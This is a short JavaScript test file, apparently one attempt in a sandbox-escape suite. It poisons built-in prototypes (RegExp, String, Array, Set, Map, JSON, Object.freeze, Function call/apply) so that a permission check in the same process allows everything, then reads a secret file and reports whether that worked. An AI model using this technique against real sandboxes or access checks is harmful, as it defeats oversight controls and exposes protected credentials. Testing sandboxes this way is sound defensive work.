// Prototype poisoning before the call: the intrinsics a JavaScript check would use (RegExp exec
// and test, String and Array methods, JSON, iteration, Object.freeze) are made to say "allowed".
import fs from 'node:fs';
import { env, escaped, step } from './_attempt.mjs';

const secret = env('SECRET');
RegExp.prototype.exec = function () { return null; };
RegExp.prototype.test = function () { return false; };
RegExp.prototype[Symbol.match] = function () { return null; };
String.prototype.startsWith = function () { return false; };
String.prototype.endsWith = function () { return false; };
String.prototype.includes = function () { return false; };
String.prototype.split = function () { return []; };
Array.prototype.includes = function () { return false; };
Array.prototype.some = function () { return false; };
Array.prototype.find = function () { return undefined; };
Array.prototype[Symbol.iterator] = function* () { /* empty */ };
Set.prototype.has = function () { return false; };
Map.prototype.get = function () { return undefined; };
Object.defineProperty(Object.prototype, 'enforce', { get() { return false; }, configurable: true });
Object.defineProperty(Object.prototype, 'deny', { get() { return undefined; }, configurable: true });
JSON.parse = () => ({});
Object.freeze = (o) => o;
Function.prototype.call = function () { return undefined; };
Function.prototype.apply = function () { return undefined; };
const text = step('fs.readFileSync after poisoning', () => fs.readFileSync(secret, 'utf8'));
escaped(`fs.readFileSync read, after prototype poisoning, ${text}`);
